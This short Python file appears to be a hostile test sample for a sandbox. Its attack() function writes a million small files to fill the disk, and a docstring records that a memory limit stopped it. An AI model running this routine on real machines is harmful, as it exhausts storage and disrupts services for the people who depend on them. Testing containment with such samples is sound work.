"""Fills the disk with many files.

Seen: stopped memory
"""

import time


def attack():
    for number in range(1_000_000):
        with open(f"{number}", "wb") as file:
            file.write(bytes(100))
    time.sleep(5)
